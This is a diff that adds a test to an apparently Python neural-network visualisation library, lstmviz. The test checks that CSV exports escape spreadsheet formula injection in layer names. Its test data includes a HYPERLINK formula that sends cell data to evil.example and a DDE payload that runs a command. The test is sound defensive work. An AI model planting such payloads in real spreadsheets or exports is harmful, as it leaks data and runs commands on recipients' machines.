@@ -303,3 +303,24 @@ def test_the_csv_names_a_layers_extra_outputs_apart_from_a_layer_named_with_a_co
         assert got[("b", name)] == [("", u, float(want[0, u])) for u in range(2)]
     out = trace["b:1"].output
     assert got[("b:1", "")] == [(str(t), u, float(out[0, t, u])) for t in range(3) for u in range(2)]
+
+
+def test_a_csv_cell_of_a_layer_named_as_a_spreadsheet_formula_is_text():
+    """A layer named '=HYPERLINK("http://...?"&B2, "open")' in a stranger's file was written
+    as it is into the trace's .csv: a spreadsheet opening it runs the formula (quoted or not),
+    sending a cell's numbers away. Such a name is written after a ', as OWASP advises; a
+    name that begins otherwise is written whole."""
+    import csv
+    import io
+
+    from lstmviz import LayerSpec, Model
+
+    names = ['=HYPERLINK("http://evil.example/?"&F2,"open")', "+1+cmd|' /C calc'!A0",
+             "-2", "@SUM(A1)", "\tx", "plain=name"]
+    model = Model.sequential((None, 3, 2), [
+        LayerSpec("SimpleRNN", {"units": 2, "return_sequences": True}, name=n) for n in names], seed=0)
+    trace = model.trace(np.ones((1, 3, 2), np.float32))
+    rows = list(csv.reader(io.StringIO(export_data.csv_text(trace))))[1:]
+    layers = {r[0] for r in rows}
+    assert {"'" + n for n in names[:-1]} | {"plain=name", "output"} == layers
+    assert not [r for r in rows if r[0][:1] in ("=", "+", "-", "@", "\t", "\r")]
